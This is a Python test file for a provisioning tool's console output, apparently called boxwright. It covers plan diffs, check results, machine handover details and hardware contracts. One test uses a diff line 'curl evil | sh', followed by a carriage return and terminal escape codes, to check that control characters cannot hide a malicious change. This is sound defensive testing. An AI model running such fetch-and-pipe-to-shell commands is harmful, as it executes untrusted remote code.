from __future__ import annotations

import json
import re
import shlex
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from pydantic import SecretStr

from boxwright.console import CheckResult, Handover, render_plan, show_checks
from boxwright.console.contract_view import Row, show_contracts
from boxwright.handover.facts import Offer
from boxwright.planning.changes import PlannedChange

Record = Callable[..., Any]
DIFF = "--- /etc/a\n+++ /etc/a\n@@ -1 +1 @@\n-old\n+new [bold]x[/bold]\n"
CHANGES = [
    PlannedChange("lab-1", "base", "ansible", "Time zone is set", DIFF),
    PlannedChange("lab-2", "base", "ansible", "Time zone is set", DIFF),
    PlannedChange("lab-1", "models", "pyinfra", "Fetch weights"),
]


def test_an_equal_change_of_several_hosts_is_shown_once(record: Record) -> None:
    seen = record()
    render_plan(seen.console, CHANGES, already_right=34)
    assert seen.out.strip().splitlines() == [
        "lab-1, lab-2",
        "  base by ansible",
        "    ~ Time zone is set",
        *(f"        {line}" for line in DIFF.splitlines()),
        "",
        "lab-1",
        "  models by pyinfra",
        "    ~ Fetch weights",
        "",
        "Plan: 3 to change on 2 hosts, 34 already right.",
    ]


def test_a_long_diff_is_cut_with_the_count_of_the_rest(record: Record) -> None:
    seen = record()
    diff = "".join(f"+line {i}\n" for i in range(60))
    render_plan(seen.console, [PlannedChange("a", "base", "ansible", "R", diff)], already_right=0)
    assert "+line 39\n" in seen.out
    assert "+line 40\n" not in seen.out
    assert "and 20 more lines" in seen.out


def test_a_carriage_return_hides_nothing_of_a_diff(record: Record) -> None:
    seen = record()
    change = PlannedChange("a", "base", "ansible", "R", "+curl evil | sh\r+harmless\x1b[2K\n")
    render_plan(seen.console, [change], already_right=0)
    assert "+curl evil | sh\n" in seen.out
    assert "\r" not in seen.out


def test_diffs_are_coloured_on_a_terminal(record: Record) -> None:
    seen = record(terminal=True, width=80)
    render_plan(seen.console, CHANGES, already_right=0)
    assert "\x1b[32m        +new [bold]x[/bold]\x1b[0m" in seen.out
    assert "\x1b[31m        -old\x1b[0m" in seen.out


def test_a_plan_without_changes_says_so(record: Record) -> None:
    seen = record()
    render_plan(seen.console, [], already_right=46)
    assert seen.out == "✓ Nothing to change: 46 already right.\n"


def test_a_plan_in_json_has_a_line_for_each_host_and_change(record: Record) -> None:
    seen = record(json=True)
    render_plan(seen.console, CHANGES, already_right=34)
    assert [each["type"] for each in seen.objects] == ["change", "change", "change", "plan"]
    assert seen.objects[0]["diff"] == DIFF
    assert seen.objects[-1] == {"type": "plan", "to_change": 3, "hosts": 2, "already_right": 34}


CHECKS = [
    CheckResult("lab-1", "tls", "TLS 1.2 or newer", "major", "pass", evidence="TLSv1.3"),
    CheckResult("lab-1", "gpu", "GPUs compute", "critical", "waived", evidence="a twin has none"),
    CheckResult("lab-1", "pins", "Held", "minor", "fail", evidence="nginx is not", remedy="Hold it."),
    CheckResult("lab-1", "ports", "Closed", "critical", "fail", evidence="9090 open", remedy="Close it."),
]


@pytest.mark.parametrize(("terminal", "width"), [(False, 100), (True, 80), (True, 140)])
def test_failed_checks_come_first_with_their_remedy(record: Record, terminal: bool, width: int) -> None:
    seen = record(terminal=terminal, width=width)
    show_checks(seen.console, CHECKS)
    places = [seen.out.index(word) for word in ("ports", "Close it.", "pins", "gpu", "TLSv1.3", "2 failed, 1 waived")]
    assert places == sorted(places)


def test_checks_name_their_host_where_there_are_several(record: Record) -> None:
    seen = record()
    show_checks(seen.console, [*CHECKS, CheckResult("lab-2", "tls", "TLS", "major", "pass")])
    assert "pass      major     lab-2  tls  TLS\n" in seen.out


def test_on_a_narrow_terminal_no_word_is_cut(record: Record) -> None:
    seen = record(terminal=True, width=80)
    evidence = "frame-ancestors 'self', server: nginx, x-content-type-options: nosniff, referrer-policy: same-origin"
    show_checks(seen.console, [CheckResult("lab-1", "gateway.headers", "Answers forbid", "minor", "fail", evidence)])
    plain = re.sub(r"\x1b\[[0-9;]*m", "", seen.out)
    assert all(word in plain for word in ("gateway.headers", *evidence.split()))


def test_what_passed_of_a_batch_does_not_hide_what_did_not(record: Record) -> None:
    batch = [CheckResult(f"box-{n}", "tls", "TLS 1.2 or newer", "major", "pass") for n in (1, 2, 3)]
    batch.append(CheckResult("box-2", "ports", "Closed", "critical", "fail", evidence="9090 open", remedy="Close it."))
    seen = record(terminal=True, width=80)
    show_checks(seen.console, batch)
    plain = re.sub(r"\x1b\[[0-9;]*m", "", seen.out)
    assert plain.count("TLS") == 0
    for told in (
        "Close it.",
        "box-1: 1 of 1 check passed",
        "box-2: 1 of 2 checks passed",
        "1 failed, 0 waived, 3 passed",
    ):
        assert told in plain
    written = record(width=80)  # a file keeps everything
    show_checks(written.console, batch)
    assert written.out.count("TLS") == 3


def test_no_check_is_no_success(record: Record) -> None:
    seen = record()
    show_checks(seen.console, [])
    assert seen.out == "No check ran, so nothing is verified.\n"


def test_checks_in_json(record: Record) -> None:
    seen = record(json=True)
    show_checks(seen.console, CHECKS)
    assert [(each.get("id"), each.get("severity")) for each in seen.objects] == [
        ("ports", "critical"),
        ("pins", "minor"),
        ("gpu", "critical"),
        ("tls", "major"),
        (None, None),
    ]
    assert seen.objects[-1] == {"type": "checks", "fail": 2, "waived": 1, "unproven": 0, "pass": 1}


HANDOVER = Handover(
    host="lab-1",
    chat_url="https://lab-1.internal/",
    chat_user="admin@lab-1.internal",
    offers=(Offer(api_url="https://api.lab-1.internal/v1/", model="it's a model"),),
    api_user="api user",
    secret_commands={"chat": "./invoke secrets.show lab-1/chat", "api": "./invoke secrets.show lab-1/api"},
    ca_certificate="/home/a user/ca.pem",
    address="fd00::2",
    stage_seconds={"base": 12.3, "models": 3.0},
)


def test_a_handover_shows_commands_instead_of_passwords(record: Record) -> None:
    seen = record()
    seen.console.handover(HANDOVER)
    for words in (
        "https://lab-1.internal/",
        "admin@lab-1.internal",
        "./invoke secrets.show lab-1/chat",
        "15.3",
    ):
        assert words in seen.out


def test_a_box_that_a_check_failed_on_is_not_called_ready(record: Record) -> None:
    seen = record()
    seen.console.handover(replace(HANDOVER, failed_checks=2))
    assert "lab-1 is provisioned and not ready: 2 checks failed." in seen.out
    assert "is ready" not in seen.out


def test_of_many_boxes_the_first_request_is_left_to_their_pages(record: Record) -> None:
    seen = record()
    seen.console.handover(replace(HANDOVER, one_of_many=True, pages={"en": "/state/lab-1/en.html"}))
    assert "/state/lab-1/en.html" in seen.out
    assert "curl" not in seen.out
    assert "lab-1 is ready." in seen.out


def test_a_handover_shows_a_password_only_when_asked_and_never_in_json(record: Record) -> None:
    passwords = {"chat": SecretStr("correct horse")}
    seen = record()
    seen.console.handover(HANDOVER, passwords=passwords)
    assert "password   correct horse" in seen.out
    assert "secrets.show lab-1/chat" not in seen.out
    in_json = record(json=True)
    in_json.console.handover(HANDOVER, passwords=passwords)
    assert "correct horse" not in in_json.out
    assert in_json.objects[0]["secret_commands"]["chat"] == "./invoke secrets.show lab-1/chat"


def test_the_times_of_many_stages_stand_in_lines_that_a_terminal_shows_whole(record: Record) -> None:
    seen = record()
    seen.console.handover(replace(HANDOVER, stage_seconds={f"stage_{number}": 1.0 for number in range(15)}))
    lines = seen.out.splitlines()
    first = next(number for number, line in enumerate(lines) if line.startswith("  Took  "))
    told = lines[first : lines.index("", first)]
    assert len(told) == 3
    assert max(map(len, told)) <= 100
    words = " ".join(line.removeprefix("  Took").strip() for line in told)
    assert words == "15.0 s: " + ", ".join(f"stage_{number} 1.0" for number in range(15))


def test_the_first_request_can_be_pasted_into_a_shell(record: Record) -> None:
    seen = record(json=True)
    seen.console.handover(HANDOVER)
    words = shlex.split(seen.objects[0]["curl"])
    assert words[words.index("--cacert") + 1] == "/home/a user/ca.pem"
    assert words[words.index("--connect-to") + 1] == "::[fd00::2]:"
    assert words[words.index("--user") + 1] == "api user"  # without a password: curl asks
    assert json.loads(words[words.index("--data") + 1])["model"] == "it's a model"
    assert words[-1] == "https://api.lab-1.internal/v1/chat/completions"


CONTRACT: list[Row] = [
    ("box-1", "ok", "cpu.cores", "128", "128 or more", ""),
    ("box-1", "unproven", "nics.count", "0 ports", "2", ""),
    ("box-2", "refused", "pcie.width", "0000:13:00.0 at x8", "x16", "Reseat the card."),
    ("box-1", "waived", "memory.size", "256 GiB", "512 GiB", "Ada: the modules come on Monday"),
]


@pytest.mark.parametrize("terminal", [False, True])
def test_a_contract_shows_what_differs_the_worst_first(record: Record, terminal: bool) -> None:
    seen = record(terminal=terminal, width=120)
    show_contracts(seen.console, "8x4090", CONTRACT, {"ok": 1})
    words = ("1 check holds", "refused", "Reseat the card.", "waived", "Ada: the modules", "unproven")
    assert [seen.out.index(word) for word in words] == sorted(seen.out.index(word) for word in words)
    assert "cpu.cores" not in seen.out


def test_a_contract_that_holds_is_one_line(record: Record) -> None:
    seen = record()
    show_contracts(seen.console, "8x4090", CONTRACT[:1], {"ok": 1})
    assert seen.out.count("\n") == 1
    assert "8x4090" in seen.out


def test_a_contract_in_json_has_every_check(record: Record) -> None:
    seen = record(json=True)
    show_contracts(seen.console, "8x4090", CONTRACT, {"ok": 1})
    assert [each["verdict"] for each in seen.objects] == ["refused", "waived", "unproven", "ok"]
